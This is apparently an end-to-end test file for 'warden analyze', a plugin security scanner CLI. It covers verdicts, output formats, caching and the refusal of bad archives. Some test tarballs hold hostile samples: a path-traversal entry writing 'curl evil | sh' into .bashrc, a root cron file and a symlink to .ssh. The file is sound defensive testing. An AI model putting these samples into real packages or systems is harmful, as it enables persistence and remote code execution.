/**
 * `warden analyze` end to end: the built CLI (dist/, from `npm run build`)
 * spawned as a user would run it, with a private TMPDIR so "nothing left
 * behind" is checked exactly.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { analyzePlugin } from '../../analyzer/index.js';
import { CLI, extractionDirs, FIXTURES, MANIFEST, packageEntries, rawTarball, REPO, runCli, tempDir, writePlugin, type RawEntry } from '../analyzer/helpers.js';

let tmp: string;
beforeEach(() => {
  tmp = tempDir('warden-cli-');
});

const analyze = (...args: string[]) => runCli(['analyze', ...args], { env: { TMPDIR: tmp } });
const fixture = (name: string) => join(FIXTURES, name);

function tarball(entries: RawEntry[]): string {
  const file = join(tempDir(), 'plugin.tgz');
  writeFileSync(file, rawTarball(entries));
  return file;
}

describe('warden analyze: --ignore-pattern', () => {
  it('leaves out generated files no entry point reaches, and reads the ones it does', () => {
    const root = writePlugin({ 'package.json': MANIFEST, 'index.js': "require('./gen/used.js');", 'gen/used.js': "require('net');", 'gen/spare.js': 'eval(x);' });
    const result = analyze(root, '--no-cache', '--ignore-pattern', 'gen/', '--ignore-pattern', '**/*.map');
    const report = JSON.parse(result.stdout);
    expect(report.findings.map((finding: { file: string }) => finding.file)).toEqual(['gen/used.js']);
    expect(result.status).toBe(1);
  });
});

describe('warden analyze: verdicts', () => {
  it('exits 0 for an allowed plugin and prints one JSON object when stdout is not a terminal', () => {
    const result = analyze(fixture('clean'), '--no-cache');
    expect(result.status).toBe(0);
    expect(result.stderr).toBe('');
    const report = JSON.parse(result.stdout);
    expect(report).toMatchObject({ schemaVersion: 1, plugin: { id: 'acme.clean' }, tier: 'community', decision: { action: 'allow' }, findings: [] });
  });

  it('exits 1 for a blocked plugin; the stylish report names the tier; --tier changes the verdict', () => {
    const blocked = analyze(fixture('stealer'), '--format', 'stylish', '--no-cache');
    expect(blocked.status).toBe(1);
    expect(blocked.stdout).toContain('blocked for community: 6 critical, 2 high');
    expect(blocked.stdout).not.toMatch(/\x1b\[/);
    const official = analyze(fixture('stealer'), '--tier', 'official', '--no-cache');
    expect(official.status).toBe(0);
    expect(JSON.parse(official.stdout).decision.action).toBe('warn');
  });

  it('analyzes several paths (folder and npm pack tarball) into an array, with a summary line each on stderr', () => {
    const packDir = tempDir();
    execFileSync('npm', ['pack', '--silent', '--pack-destination', packDir], { cwd: fixture('clean'), env: { ...process.env, npm_config_loglevel: 'silent' } });
    const [tgz] = readdirSync(packDir);
    const result = analyze(fixture('stealer'), join(packDir, tgz), '--no-cache');
    expect(result.status).toBe(1);
    expect(JSON.parse(result.stdout).map((report: { plugin: { id: string } }) => report.plugin.id)).toEqual(['mallory.stealer', 'acme.clean']);
    expect(result.stderr.trimEnd().split('\n')).toEqual([
      expect.stringMatching(/^blocked +mallory\.stealer@0\.0\.1 /),
      expect.stringMatching(/^allowed +acme\.clean@1\.2\.0 .*clean-1\.2\.0\.tgz +no findings$/),
      expect.stringMatching(/^✖ 9 findings \(.*\) in 2 plugins: 1 blocked, 1 allowed$/),
    ]);
    expect(extractionDirs(tmp)).toEqual([]);
  });

  it('writes --output instead of stdout, in SARIF when asked', () => {
    const out = join(tempDir(), 'review.sarif');
    const result = analyze(fixture('stealer'), '--format', 'sarif', '--output', out, '--no-cache');
    expect(result.status).toBe(1);
    expect(result.stdout).toBe('');
    expect(JSON.parse(readFileSync(out, 'utf8')).runs[0].results.length).toBeGreaterThan(0);
  });

  it('lets a --policy file change what blocks', () => {
    const policy = join(tempDir(), 'policy.json');
    writeFileSync(policy, JSON.stringify({ tiers: { community: { high: 'warn' } } }));
    expect(analyze(fixture('typescript'), '--no-cache').status).toBe(1);
    const loosened = analyze(fixture('typescript'), '--policy', policy, '--no-cache');
    expect(loosened.status).toBe(0);
    expect(JSON.parse(loosened.stdout).decision.action).toBe('warn');
  });

  it('reuses cached results on a second run over the same files', () => {
    const cacheDir = tempDir();
    const cold = JSON.parse(analyze(fixture('stealer'), '--cache-dir', cacheDir).stdout);
    const warm = JSON.parse(analyze(fixture('stealer'), '--cache-dir', cacheDir).stdout);
    expect(cold.stats.cached).toBe(0);
    expect(warm.stats.cached).toBe(2);
    expect(warm.findings).toEqual(cold.findings);
  });

  it('serves a warm run without loading the parser or the rules', () => {
    const cacheDir = tempDir();
    const loads = join(tempDir(), 'loads.txt');
    analyze(fixture('stealer'), '--cache-dir', cacheDir);
    const warm = runCli(['analyze', fixture('stealer'), '--cache-dir', cacheDir], {
      env: { TMPDIR: tmp, WARDEN_RECORD_LOADS: loads },
      nodeArgs: ['--import', join(FIXTURES, 'loader/record-loads.mjs')],
    });
    expect(JSON.parse(warm.stdout).stats.cached).toBe(2);
    const chunks: Record<string, string[]> = JSON.parse(readFileSync(join(REPO, 'dist/bin-inputs.json'), 'utf8'));
    const loaded = readFileSync(loads, 'utf8').split('\n').filter((url) => url.includes('/dist/bin/')).map((url) => url.slice(url.lastIndexOf('/') + 1));
    const modules = loaded.flatMap((chunk) => chunks[chunk] ?? []);
    expect(modules).toContain('dist/cli/analyze.js');
    expect(modules.filter((module) => /node_modules\/(acorn|espree|eslint-scope)\/|^dist\/rules\/(?!meta|version|extensions|utils\/(specifiers|markers|manifest|commands|start-vias|sensitive-paths))/.test(module))).toEqual([]);
  });

  it('lints big work in the worker pool with the same findings as in-process', async () => {
    // Over the pool threshold: several files of ordinary code, and a finding in each of two of them.
    const filler = Array.from({ length: 6000 }, (_, i) => `function f${i}(a, b) { return a * ${i} + b.length; }`).join('\n');
    const root = writePlugin({
      'package.json': MANIFEST,
      'index.js': `${filler}\nrequire('child_process').exec('id');\n`,
      'a.js': filler,
      'b.js': `${filler}\nfetch('https://example.com');\n`,
      'c.js': filler,
    });
    const result = analyze(root, '--no-cache');
    const inProcess = await analyzePlugin(root, { cache: false });
    expect(JSON.parse(result.stdout).findings).toEqual(inProcess.findings);
    expect(inProcess.findings.map((f) => f.file)).toEqual(['b.js', 'index.js']);
  });
});

describe('warden analyze: bad input exits 2 with one line and leaves nothing behind', () => {
  const cases: [string, () => string[], RegExp][] = [
    ['a missing path', () => ['/nonexistent/plugin'], /^warden: cannot read \/nonexistent\/plugin: no such file or folder$/],
    ['a folder without package.json', () => [writePlugin({ 'index.js': '' })], /^warden: cannot analyze .+: no package.json$/],
    ['invalid JSON', () => [writePlugin({ 'package.json': '{ "name": "x",' })], /^warden: invalid manifest .+\/package\.json: not valid JSON/],
    ['a missing required field', () => [writePlugin({ 'package.json': { ...MANIFEST, engines: {} } })], /^warden: invalid manifest .+\/package\.json: "engines\.warden" is required$/],
    ['a corrupt .tgz', () => [(writeFileSync(join(tmp, 'x.tgz'), 'not a tarball'), join(tmp, 'x.tgz'))], /^warden: corrupt archive .+x\.tgz: /],
    ['a .tgz with ../ entries', () => [tarball([...packageEntries(), { name: 'package/../../../.bashrc', content: 'curl evil | sh' }])], /^warden: refused archive .+: entry "package\/\.\.\/\.\.\/\.\.\/\.bashrc" is an absolute path or leaves the package folder$/],
    ['a .tgz with an absolute path', () => [tarball([...packageEntries(), { name: '/etc/cron.d/evil', content: '* * * * * root id' }])], /^warden: refused archive .+: entry "\/etc\/cron\.d\/evil" is an absolute path/],
    ['a .tgz with a symlink escaping the root', () => [tarball([...packageEntries(), { name: 'package/keys', type: '2', linkname: '../../.ssh' }])], /^warden: refused archive .+: symlink "package\/keys" points outside the package \(\.\.\/\.\.\/\.ssh\)$/],
    ['a .tgz with an oversized entry', () => [tarball([...packageEntries(), { name: 'package/big.js', size: 1024 * 1024 * 1024 }])], /^warden: refused archive .+: entry "package\/big\.js" is 1073741824 bytes, over the 67108864-byte limit$/],
    ['an unknown flag', () => [fixture('clean'), '--fast'], /^warden: unknown option '--fast'$/],
    ['an unknown tier', () => [fixture('clean'), '--tier', 'friends'], /^warden: option '--tier <tier>' argument 'friends' is invalid\. Allowed choices are official, trusted, community, unregistered\.$/],
    ['an invalid policy file', () => [fixture('clean'), '--policy', (writeFileSync(join(tmp, 'p.json'), '{"tiers":{"community":{"high":"nope"}}}'), join(tmp, 'p.json'))], /^warden: invalid policy .+p\.json: "tiers\.community\.high" must be one of block, warn, show, hidden$/],
  ];

  it.each(cases)('%s', (_label, args, message) => {
    const out = join(tmp, 'report.json');
    const result = analyze(...args(), '--output', out, '--no-cache');
    expect(result.status).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr.endsWith('\n')).toBe(true);
    const lines = result.stderr.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(message);
    expect(existsSync(out)).toBe(false);
    expect(extractionDirs(tmp)).toEqual([]);
  });

  it('does not follow a folder plugin symlink out of its root, and says so as a finding', () => {
    const root = writePlugin({ 'package.json': MANIFEST, 'index.js': '' });
    symlinkSync('/usr/lib', join(root, 'vendor'));
    const result = analyze(root, '--no-cache');
    expect(result.status).toBe(1);
    // Nothing loads it: one severity lower, still blocked.
    expect(JSON.parse(result.stdout).findings).toMatchObject([{ file: 'vendor', category: 'unanalyzable', severity: 'high', reachable: false }]);
    symlinkSync('/etc', join(root, 'conf'));
    writeFileSync(join(root, 'index.js'), "require('./conf/os-release');");
    const loaded = JSON.parse(analyze(root, '--no-cache').stdout).findings;
    expect(loaded).toEqual(expect.arrayContaining([expect.objectContaining({ file: 'conf/os-release', category: 'unanalyzable', severity: 'critical' })]));
  });
});

describe('warden analyze: ESLint-CLI habits', () => {
  it('--quiet lists only what blocks, in the JSON report too; the verdict is the same', () => {
    const all = JSON.parse(analyze(fixture('stealer'), '--no-cache').stdout);
    const quiet = analyze(fixture('stealer'), '--no-cache', '--quiet');
    expect(quiet.status).toBe(1);
    const report = JSON.parse(quiet.stdout);
    expect(report.decision).toEqual(all.decision);
    expect(report.findings.map((f: { severity: string }) => f.severity).sort()).toEqual(all.findings.map((f: { severity: string }) => f.severity).filter((s: string) => s === 'critical' || s === 'high').sort());
  });

  it('--max-warnings N exits 1 when more findings than N need a warning, with one line saying so', () => {
    const root = writePlugin({ 'package.json': MANIFEST, 'index.js': '// eslint-disable-next-line\nexports.activate = () => {};\n' });
    expect(analyze(root, '--no-cache').status).toBe(0);
    expect(analyze(root, '--no-cache', '--max-warnings', '1').status).toBe(0);
    const over = analyze(root, '--no-cache', '--max-warnings', '0');
    expect(over.status).toBe(1);
    expect(over.stderr).toBe('warden: too many warnings (1, more than --max-warnings 0)\n');
    const bad = analyze(root, '--max-warnings', 'lots');
    expect(bad.status).toBe(2);
    expect(bad.stderr).toBe('warden: --max-warnings: expected a whole number, not "lots"\n');
  });

  it('an unusable --cache-dir is one line and exit 2, at once', () => {
    for (const dir of ['/proc/nope', '/dev/null/cache']) {
      const started = Date.now();
      const result = spawnSync(process.execPath, [CLI, 'analyze', fixture('clean'), '--cache-dir', dir], { encoding: 'utf8', timeout: 20_000, env: { ...process.env, TMPDIR: tmp } });
      expect(result.signal, `--cache-dir ${dir} hung (${Date.now() - started} ms)`).toBeNull();
      expect(result.status).toBe(2);
      expect(result.stderr).toMatch(new RegExp(`^warden: cannot use --cache-dir ${dir}: E[A-Z]+\\n$`));
      expect(result.stdout).toBe('');
    }
  });

  it('wraps the stylish report to COLUMNS when piped into a pager', () => {
    const result = runCli(['analyze', fixture('stealer'), '--format', 'stylish', '--no-cache'], { env: { TMPDIR: tmp, COLUMNS: '70' } });
    expect(result.stdout.split('\n').filter((line) => line.length > 70)).toEqual([]);
  });

  it('--format html writes one self-contained page', () => {
    const out = join(tempDir(), 'review.html');
    const result = analyze(fixture('stealer'), '--format', 'html', '--output', out, '--no-cache');
    expect(result.status).toBe(1);
    const html = readFileSync(out, 'utf8');
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).not.toMatch(/<(script|link|img|iframe)[^>]+(src|href)=/i);
    expect(html).toMatch(/Content-Security-Policy" content="default-src 'none'/);
  });
});
